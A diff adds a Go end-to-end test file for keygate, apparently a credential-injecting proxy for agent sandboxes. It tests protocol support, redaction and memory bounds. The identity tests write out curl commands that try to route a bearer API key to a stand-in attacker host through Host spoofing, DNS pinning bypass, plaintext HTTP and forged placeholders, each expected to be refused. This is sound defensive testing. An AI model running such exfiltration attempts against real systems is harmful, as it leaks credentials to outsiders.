@@ -1,0 +1,222 @@
+//go:build linux
+
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/keygate/keygate/pkg/placeholder"
+)
+
+// TestProxyProtocols covers what agents' HTTP clients use: HTTP/1.1 and
+// HTTP/2 towards the sandbox, server-sent events delivered as they come,
+// WebSocket with the credential in the handshake, a 512 MiB upload with
+// the agent's memory bounded, and redaction of an echoed secret.
+func TestProxyProtocols(t *testing.T) {
+	w := world(t)
+	a := startAgent(t, w)
+	key := secret(t)
+	a.mustKG("", "vault", "create", "v")
+	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
+	api := "https://" + w.APIHost()
+	auth := `-H "Authorization: Bearer $API_KEY"`
+	run := func(t *testing.T, script string) string {
+		t.Helper()
+		out, errOut, code := a.run([]string{"--vault", "v"}, script)
+		if code != 0 {
+			t.Fatalf("sandbox: exit %d\nstdout %s\nstderr %s", code, out, errOut)
+		}
+		if strings.Contains(out+errOut, key) {
+			t.Fatalf("the sandbox saw the secret: %s", redact(out+errOut, key))
+		}
+		return out
+	}
+	lastAuth := func(t *testing.T) string {
+		t.Helper()
+		reqs := w.Requests(w.APIHost())
+		if len(reqs) == 0 {
+			t.Fatal("API received nothing")
+		}
+		return reqs[len(reqs)-1].Header.Get("Authorization")
+	}
+
+	for _, proto := range []struct{ flag, want string }{{"--http1.1", "1.1"}, {"--http2", "2"}} {
+		t.Run("curl "+proto.flag, func(t *testing.T) {
+			out := run(t, `curl -sS -m 10 -o /dev/null -w '%{http_version} %{http_code}' `+proto.flag+` `+api+`/proto `+auth)
+			if out != proto.want+" 200" {
+				t.Fatalf("curl %s: %q, want %q", proto.flag, out, proto.want+" 200")
+			}
+			if got := lastAuth(t); got != "Bearer "+key {
+				t.Fatalf("API got %q", redact(got, key))
+			}
+		})
+	}
+
+	t.Run("server-sent events arrive one by one", func(t *testing.T) {
+		out := run(t, `curl -sSN -m 20 `+api+`/_kg/sse?n=3\&ms=700 `+auth+
+			` | while IFS= read -r line; do case "$line" in data:*) echo "$(date +%s%3N) $line";; esac; done`)
+		lines := strings.Split(strings.TrimSpace(out), "\n")
+		if len(lines) != 3 {
+			t.Fatalf("events: %q", out)
+		}
+		var at []int64
+		for _, l := range lines {
+			ms, _ := strconv.ParseInt(strings.Fields(l)[0], 10, 64)
+			at = append(at, ms)
+		}
+		// Sent 700 ms apart: buffered delivery would make them arrive
+		// together at the end.
+		if at[1]-at[0] < 500 || at[2]-at[1] < 500 {
+			t.Fatalf("events arrived at %v: not streamed", at)
+		}
+	})
+
+	t.Run("websocket with the credential in the handshake", func(t *testing.T) {
+		out := run(t, filepath.Join(binDir, "wsclient")+` -url wss://`+w.APIHost()+`/_kg/ws -bearer-env API_KEY hello again`)
+		if out != "echo: hello\necho: again\n" {
+			t.Fatalf("websocket replies: %q", out)
+		}
+		if got := lastAuth(t); got != "Bearer "+key {
+			t.Fatalf("handshake Authorization %q", redact(got, key))
+		}
+	})
+
+	t.Run("echoed secret is redacted", func(t *testing.T) {
+		out := run(t, `curl -sS -m 10 -D - `+api+`/_kg/echo `+auth)
+		if !strings.Contains(out, "kgph_") {
+			t.Fatalf("echo response shows no placeholder: %s", out)
+		}
+		if !strings.Contains(strings.ToLower(out), "x-echo-authorization: bearer kgph_") {
+			t.Fatalf("echoed header not redacted to the placeholder: %s", out)
+		}
+		if got := lastAuth(t); got != "Bearer "+key {
+			t.Fatalf("API got %q", redact(got, key))
+		}
+	})
+
+	t.Run("512 MiB upload with bounded agent memory", func(t *testing.T) {
+		const size = 512 << 20
+		out := run(t, fmt.Sprintf(`head -c %d /dev/zero | curl -sS -m 120 -T - %s/_kg/upload %s`, size, api, auth))
+		var got struct{ Bytes int64 }
+		if err := json.Unmarshal([]byte(out), &got); err != nil || got.Bytes != size {
+			t.Fatalf("upload: %q (%v), want %d bytes received", out, err, size)
+		}
+		hwm := peakRSS(t, a.cmd.Process.Pid)
+		t.Logf("keygated peak RSS after a %d MiB upload: %d MiB", size>>20, hwm>>20)
+		if hwm > 192<<20 {
+			t.Fatalf("keygated peak RSS %d MiB: the upload was buffered", hwm>>20)
+		}
+	})
+}
+
+// peakRSS returns a process's high-water resident set size in bytes.
+func peakRSS(t *testing.T, pid int) int64 {
+	t.Helper()
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
+			kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
+			return kb << 10
+		}
+	}
+	t.Fatal("no VmHWM")
+	return 0
+}
+
+// TestProxyIdentity runs the identity attacks: each is refused with a
+// reason, and neither the attacker nor the API receives anything from it.
+func TestProxyIdentity(t *testing.T) {
+	w := world(t)
+	a := startAgent(t, w)
+	key := secret(t)
+	a.mustKG("", "vault", "create", "v")
+	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
+
+	// Another sandbox's placeholder, taken from a sandbox that stays up.
+	other := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v"))
+	foreign, _, _ := a.kg("", "sandbox", "exec", other, "--", "sh", "-c", `printf %s "$API_KEY"`)
+	if !strings.HasPrefix(foreign, placeholder.Marker) {
+		t.Fatalf("other sandbox's placeholder: %q", foreign)
+	}
+	unknown := placeholder.Marker + strings.Repeat("a", 32)
+	api := "https://" + w.APIHost()
+
+	tests := []struct {
+		name   string
+		script string
+		reason string
+	}{
+		{"Host differs from SNI", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.AttackerHost() + `" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
+		{"Host port differs", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.APIHost() + `:8443" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
+		{"HTTP/2 authority differs from SNI", `curl -sS -m 10 --http2 -w '\n%{http_code}' ` + api + `/x -H "Host: ` + w.AttackerHost() + `" -H "Authorization: Bearer $API_KEY"`, "host_mismatch"},
+		{"approved name at the attacker's address", `curl -sS -m 10 -w '\n%{http_code}' --resolve ` + w.APIHost() + `:443:` + w.Attacker.String() + ` ` + api + `/x -H "Authorization: Bearer $API_KEY"`, "destination_not_pinned"},
+		{"another sandbox's placeholder", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Authorization: Bearer ` + foreign + `"`, "placeholder_of_other_sandbox"},
+		{"unknown placeholder-shaped token", `curl -sS -m 10 -w '\n%{http_code}' ` + api + `/x -H "Authorization: Bearer ` + unknown + `"`, "placeholder_unknown"},
+		{"plaintext HTTP", `curl -sS -m 10 -w '\n%{http_code}' http://` + w.APIHost() + `/x -H "Authorization: Bearer $API_KEY"`, "plaintext_http"},
+		{"placeholder to an allowed, unapproved host", `curl -sS -m 10 -w '\n%{http_code}' https://` + w.AttackerHost() + `/x -H "Authorization: Bearer $API_KEY"`, "placeholder_unapproved_host"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			beforeAPI, beforeEvil := len(w.Requests(w.APIHost())), len(w.Requests(w.AttackerHost()))
+			out, errOut, code := a.run([]string{"--vault", "v", "--allow", w.AttackerHost()}, tt.script)
+			if code != 0 || !strings.HasSuffix(out, "\n403") || !strings.Contains(out, tt.reason) {
+				t.Fatalf("exit %d, output %q, stderr %q; want 403 %s", code, out, errOut, tt.reason)
+			}
+			if n := len(w.Requests(w.APIHost())) - beforeAPI; n != 0 {
+				t.Errorf("the API received %d requests", n)
+			}
+			if n := len(w.Requests(w.AttackerHost())) - beforeEvil; n != 0 {
+				t.Errorf("the attacker received %d requests", n)
+			}
+		})
+	}
+	recs := a.auditRecords(t, "--kind", "request.deny")
+	for _, tt := range tests {
+		if countKind(recs, "request.deny", func(r auditRecord) bool { return r.Reason == tt.reason }) == 0 {
+			t.Errorf("no audit record for %s", tt.reason)
+		}
+	}
+	a.stop()
+	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
+		t.Fatal("the secret leaked")
+	}
+}
+
+// TestSplice checks that a sandbox without credentials reaches an allowed
+// host end to end: its TLS session is with the real server (it verifies
+// the world's own certificate, which keygate could not forge), so
+// certificate-pinning clients work.
+func TestSplice(t *testing.T) {
+	w := world(t)
+	a := startAgent(t, w)
+	ca := filepath.Join(binDir, "world-ca.pem")
+	if err := os.WriteFile(ca, w.CAPEM, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	script := `curl -sS -m 10 -o /dev/null -w '%{http_code}' --cacert ` + ca + ` https://` + w.OtherHost() + `/spliced`
+	out, errOut, code := a.run([]string{"--allow", w.OtherHost()}, script)
+	if code != 0 || out != "200" {
+		t.Fatalf("spliced curl: exit %d, %q, %s", code, out, errOut)
+	}
+	reqs := w.Requests(w.OtherHost())
+	if len(reqs) == 0 || reqs[len(reqs)-1].Path != "/spliced" {
+		t.Fatal("other host did not receive the request")
+	}
+	// Not allowed: refused at the TLS stage even when spliceable.
+	out, _, _ = a.run(nil, `curl -sS -m 10 -w '\n%{http_code}' --cacert `+ca+` https://`+w.OtherHost()+`/no 2>&1; true`)
+	if strings.HasSuffix(out, "200") {
+		t.Fatalf("unlisted host reached: %q", out)
+	}
+	if !strings.Contains(a.log.String(), "request spliced") {
+		t.Error("no decision record for the spliced connection")
+	}
+}
